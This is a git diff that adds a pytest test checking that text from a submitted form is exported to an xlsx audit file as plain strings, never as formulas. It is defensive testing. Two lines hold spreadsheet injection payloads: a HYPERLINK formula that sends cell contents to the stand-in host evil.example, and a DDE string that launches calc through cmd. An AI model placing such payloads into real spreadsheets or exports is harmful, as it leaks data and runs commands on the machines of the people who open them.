@@ -10,7 +10,7 @@ from openpyxl import load_workbook
 from safeguard import samples
 from safeguard.cli import main
 from tests.conftest import ROOT
-from tests.factories import xlsx_submission
+from tests.factories import text_submission, xlsx_submission
 
 
 @pytest.fixture
@@ -74,3 +74,22 @@ def test_reminders_at_any_instant_from_the_command_line(env: Path, capsys: pytes
     assert "--now must be a date and time like 2026-12-24T08:00" in capsys.readouterr().err
     assert main(["reconcile", "--without-prefect"]) == 0
     assert "Reconciliation: no discrepancies" in capsys.readouterr().out
+
+
+def test_text_from_a_form_never_becomes_a_formula_in_the_export(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
+                                                               capsys: pytest.CaptureFixture[str]) -> None:
+    from safeguard.mail.maildir import deliver
+    monkeypatch.setenv("SAFEGUARD_MAILDIR", str(tmp_path / "mail" / "safeguarding"))
+    monkeypatch.setenv("SAFEGUARD_DELIVER_TO", str(tmp_path / "mail" / "delivered"))
+    monkeypatch.setenv("SAFEGUARD_DATABASE_URL", f"sqlite:///{tmp_path / 'register.sqlite3'}")
+    monkeypatch.chdir(ROOT)
+    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
+    deliver(tmp_path / "mail" / "safeguarding", text_submission(**{"Reason for alert": hostile,
+                                                                   "Action requested if seen": "+cmd|' /C calc'!A0"}))
+    assert main(["intake", "--once", "--without-prefect"]) == 0
+    out = tmp_path / "history.xlsx"
+    assert main(["audit", "export", "--alert", "HSA-2026-000001", str(out)]) == 0
+    sheet = load_workbook(out)["Form versions"]
+    cells = {row[0].value: row[1] for row in sheet.iter_rows()}
+    assert cells["Reason for alert"].value == hostile and cells["Reason for alert"].data_type == "s"
+    assert cells["Action requested if seen"].data_type == "s"
